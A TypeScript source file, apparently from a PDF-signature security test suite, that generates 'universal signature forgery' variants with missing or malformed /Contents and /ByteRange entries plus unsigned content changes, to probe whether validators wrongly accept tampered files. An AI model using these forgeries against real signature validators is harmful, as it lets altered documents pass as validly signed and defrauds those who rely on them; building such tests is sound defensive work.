import { overrideContent } from '../lib/content-change.js';
import type { AttackContext, Generator } from '../lib/context.js';
import { appendForgedSignature, type ForgedSignatureSpec, type GapLayout } from '../lib/forge-signature.js';

/**
 * Universal signature forgery (CCS 2019, "1 Trillion Dollar Refund" §4.1): a signature dictionary whose
 * /Contents or /ByteRange is missing or malformed, so that a careless validator skips the check and
 * reports the document as signed. Each forgery ships with a content change in the same revision,
 * which the file's legitimate signature does not cover.
 */
async function forge(ctx: AttackContext, spec: Omit<ForgedSignatureSpec, 'identity'>): Promise<Buffer> {
  const identity = ctx.kit.departments.get('demo')!.identity;
  return appendForgedSignature(await ctx.base('plain'), { identity, extraObjects: (l) => [overrideContent(l)], ...spec });
}

/** A well-shaped range whose gap sits inside the dictionary, for forgeries without /Contents. */
const rangeWithoutContents = (g: GapLayout): string => `[0 ${g.sigStart + 5} ${g.sigStart + 15} ${g.fileEnd - g.sigStart - 15}]`;

const contents = (text: string): Generator => (ctx) => forge(ctx, { contents: text });
const range = (byteRange: (g: GapLayout) => string): Generator => (ctx) => forge(ctx, { byteRange });

export const usfGenerators: Record<string, Generator> = {
  'usf-contents-missing': (ctx) => forge(ctx, { contents: null, byteRange: rangeWithoutContents }),
  'usf-contents-null': contents('null'),
  'usf-contents-empty': contents('<>'),
  'usf-contents-zeros': contents(`<${'0'.repeat(4096)}>`),
  'usf-contents-literal': contents('(MIIB signature bytes)'),
  'usf-contents-odd-hex': contents('<3082010>'),
  'usf-contents-non-hex': contents('<30820zz1>'),
  'usf-byterange-missing': (ctx) => forge(ctx, { byteRange: null }),
  'usf-byterange-empty': range(() => '[]'),
  'usf-byterange-wrong-count': range((g) => `[0 ${g.contentsStart} ${g.contentsEnd}]`),
  'usf-byterange-negative': range((g) => `[0 ${g.contentsStart} ${g.contentsEnd} -1]`),
  'usf-byterange-reals': range((g) => `[0 ${g.contentsStart}.0 ${g.contentsEnd}.0 ${g.fileEnd - g.contentsEnd}.0]`),
  'usf-byterange-past-eof': range((g) => `[0 ${g.contentsStart} ${g.contentsEnd} ${g.fileEnd - g.contentsEnd + 4096}]`),
  'usf-byterange-not-from-zero': range((g) => `[1 ${g.contentsStart - 1} ${g.contentsEnd} ${g.fileEnd - g.contentsEnd}]`),
  'usf-only-signature-zeros': async (ctx) =>
    appendForgedSignature(await ctx.base('unsigned'), {
      identity: ctx.kit.departments.get('demo')!.identity,
      contents: `<${'0'.repeat(4096)}>`,
    }),
};
